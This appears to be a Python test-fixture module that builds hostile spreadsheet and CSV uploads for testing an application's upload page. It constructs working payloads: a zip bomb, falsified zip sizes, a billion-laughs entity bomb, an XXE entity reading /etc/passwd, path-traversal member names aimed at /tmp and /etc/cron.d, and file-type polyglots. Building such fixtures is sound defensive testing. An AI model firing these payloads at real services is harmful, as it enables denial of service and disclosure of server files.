"""Hostile uploads built in memory for the upload drills: bombs, smuggled XML, polyglots.

Each is small as sent; the zip bomb's gigabyte exists only as its declared size and a deflate
stream of repeated blocks, so building it costs a checksum pass, never a gigabyte of memory.
"""

import io
import re
import struct
import zipfile
import zlib
from functools import cache
from pathlib import Path

from openpyxl import Workbook

SHEET = "xl/worksheets/sheet1.xml"
GIB = 1 << 30
ROWS = (
    ("Company", "Contact", "Email", "Country"),
    ("Keller Antriebstechnik GmbH", "Petra Keller", "petra@keller.example", "DE"),
    ("成都天府精密机械有限公司", "王伟", "wang@tianfu.example", "CN"),
)


def workbook(rows=ROWS) -> bytes:
    book = Workbook()
    for row in rows:
        book.active.append(list(row))
    out = io.BytesIO()
    book.save(out)
    return out.getvalue()


def parts_of(data: bytes) -> dict[str, bytes]:
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        return {name: archive.read(name) for name in archive.namelist()}


def zipped(parts: dict[str, bytes]) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, body in parts.items():
            archive.writestr(name, body)
    return out.getvalue()


def with_sheet(change) -> bytes:
    """The standard workbook with its sheet's XML passed through change(xml) -> xml."""
    parts = parts_of(workbook())
    parts[SHEET] = change(parts[SHEET])
    return zipped(parts)


def dimension_bomb() -> bytes:
    """Three rows claiming the whole grid, and a cell in the grid's last row (1.7 KB-ish)."""

    def change(xml: bytes) -> bytes:
        xml = re.sub(rb'<dimension ref="[^"]*" ?/>', b'<dimension ref="A1:XFD1048576"/>', xml)
        last = b'<row r="1048576"><c r="XFD1048576" t="inlineStr"><is><t>x</t></is></c></row>'
        return xml.replace(b"</sheetData>", last + b"</sheetData>")

    return with_sheet(change)


def _deflated(*pieces: bytes) -> bytes:
    # Each piece compressed on its own and flushed to a byte boundary: pieces concatenate.
    stream = b""
    for piece in pieces:
        squeezer = zlib.compressobj(9, zlib.DEFLATED, -15)
        stream += squeezer.compress(piece) + squeezer.flush(zlib.Z_FULL_FLUSH)
    return stream


def _raw_zip(parts: list[tuple[str, bytes, int, int]]) -> bytes:
    """A zip of already deflated parts: (name, deflate stream, CRC-32, size unpacked)."""
    body, directory = b"", b""
    for name, stream, crc, size in parts:
        encoded = name.encode()
        fields = struct.pack("<HHHHHIII", 20, 0, 8, 0, 0x21, crc, len(stream), size)
        directory += (
            b"PK\x01\x02"
            + struct.pack("<H", 20)
            + fields
            + struct.pack("<HHHHHII", len(encoded), 0, 0, 0, 0, 0, len(body))
            + encoded
        )
        body += b"PK\x03\x04" + fields + struct.pack("<HH", len(encoded), 0) + encoded + stream
    end = struct.pack("<HHHHIIH", 0, 0, len(parts), len(parts), len(directory), len(body), 0)
    return body + directory + b"PK\x05\x06" + end


@cache
def zip_bomb(cell_bytes: int = GIB) -> bytes:
    """About 1 MB of XLSX whose second row holds one cell of cell_bytes letters."""
    parts = parts_of(workbook())
    head, tail = parts.pop(SHEET).split(b"Keller Antriebstechnik GmbH")
    block = b"A" * (1 << 20)
    repeats, rest = divmod(cell_bytes, len(block))
    crc = zlib.crc32(head)
    for _ in range(repeats):
        crc = zlib.crc32(block, crc)
    crc = zlib.crc32(tail, zlib.crc32(block[:rest], crc))
    squeezer = zlib.compressobj(9, zlib.DEFLATED, -15)
    ending = squeezer.compress(tail) + squeezer.flush()
    stream = _deflated(head) + _deflated(block) * repeats + _deflated(block[:rest]) + ending
    raw = [(SHEET, stream, crc, len(head) + cell_bytes + len(tail))]
    for name, content in parts.items():
        squeezer = zlib.compressobj(9, zlib.DEFLATED, -15)
        packed = squeezer.compress(content) + squeezer.flush()
        raw.append((name, packed, zlib.crc32(content), len(content)))
    return _raw_zip(raw)


def lying_sizes() -> bytes:
    """A sheet that declares 2 KB unpacked but inflates to 64 MB: its sizes lie."""
    data = zip_bomb(64 << 20)
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        sheet = archive.getinfo(SHEET)
    # The central directory's "uncompressed size" field of the sheet, the first part.
    offset = data.index(b"PK\x01\x02") + 24
    assert struct.unpack("<I", data[offset : offset + 4])[0] == sheet.file_size
    return data[:offset] + struct.pack("<I", 2048) + data[offset + 4 :]


def billion_laughs() -> bytes:
    """Ten nested entities of ten each: a billion "lol"s from one cell of a 2 KB file."""
    entities = b'<!ENTITY lol0 "lol">' + b"".join(
        b'<!ENTITY lol%d "%s">' % (level, b"&lol%d;" % (level - 1) * 10) for level in range(1, 10)
    )
    prolog = b'<?xml version="1.0"?><!DOCTYPE worksheet [' + entities + b"]>"
    return with_sheet(lambda xml: prolog + xml.replace(b"Keller Antriebstechnik GmbH", b"&lol9;"))


def external_entity() -> bytes:
    """A cell whose text is to be fetched from the server's own disk (XXE)."""
    prolog = b'<?xml version="1.0"?><!DOCTYPE worksheet [<!ENTITY x SYSTEM "file:///etc/passwd">]>'
    return with_sheet(lambda xml: prolog + xml.replace(b"Keller Antriebstechnik GmbH", b"&x;"))


def external_link() -> bytes:
    """A workbook whose cells refer to another workbook on a file share."""
    parts = parts_of(workbook())
    parts["xl/externalLinks/externalLink1.xml"] = (
        b'<externalLink xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" '
        b'xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships">'
        b'<externalBook r:id="rId1"><sheetNames><sheetName val="Leads"/></sheetNames>'
        b"</externalBook></externalLink>"
    )
    parts["xl/externalLinks/_rels/externalLink1.xml.rels"] = (
        b'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
        b'<Relationship Id="rId1" TargetMode="External" Target="file://///share/leads.xlsx" '
        b'Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/'
        b'externalLinkPath"/></Relationships>'
    )
    return zipped(parts)


def wide_cell(chars: int) -> bytes:
    """A first company name of chars letters (openpyxl itself would cut it at Excel's limit)."""
    return with_sheet(lambda xml: xml.replace(b"Keller Antriebstechnik GmbH", b"x" * chars))


def traversal_members() -> bytes:
    """A workbook carrying parts named like paths out of any folder it might be unpacked to."""
    parts = parts_of(workbook())
    parts["../../../../tmp/escaped.txt"] = b"outside"
    parts["/etc/cron.d/escaped"] = b"outside"
    return zipped(parts)


def with_html_after() -> bytes:
    """A workbook with a web page appended: a zip to one program, a page to another."""
    return workbook() + b"<html><script>alert(1)</script></html>"


HTML_TABLE = (
    b"<!DOCTYPE html><html><body><table><tr><td>Company</td><td>Email</td></tr>"
    b"<tr><td>Keller GmbH</td><td>p@keller.example</td></tr></table></body></html>"
)
PNG = (
    b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR\x00\x00\x00\x01\x00\x00\x00\x01\x08\x06\x00\x00\x00"
    b"\x1f\x15\xc4\x89\x00\x00\x00\rIDATx\x9cc\xf8\x0f\x00\x00\x01\x01\x00\x05\x18\xd8N\x00"
    b"\x00\x00\x00IEND\xaeB`\x82"
)
CSV = b"Company,Email\nKeller GmbH,p@keller.example\n"
# A text file that starts like a zip, and one with a zip appended after its text.
PK_CSV = b"PK\x03\x04" + CSV
CSV_THEN_ZIP = CSV * 200 + workbook()


def write_all(folder: str) -> list[str]:
    """Every hostile upload as a file in folder, to try a deployed instance's upload page."""
    files = {
        "dimension-bomb.xlsx": dimension_bomb(),
        "zip-bomb-1gib-cell.xlsx": zip_bomb(),
        "lying-sizes.xlsx": lying_sizes(),
        "billion-laughs.xlsx": billion_laughs(),
        "external-entity.xlsx": external_entity(),
        "external-link.xlsx": external_link(),
        "cell-40000-chars.xlsx": wide_cell(40_000),
        "traversal-members.xlsx": traversal_members(),
        "html-after-zip.xlsx": with_html_after(),
        "html-table.xlsx": HTML_TABLE,
        "png-renamed.csv": PNG,
        "pk-then-csv.csv": PK_CSV,
        "csv-then-zip.csv": CSV_THEN_ZIP,
    }
    out = Path(folder)
    out.mkdir(parents=True, exist_ok=True)
    for name, data in files.items():
        (out / name).write_bytes(data)
    return sorted(files)


if __name__ == "__main__":
    import sys

    for written in write_all(sys.argv[1] if len(sys.argv) > 1 else "hostile-uploads"):
        print(written)
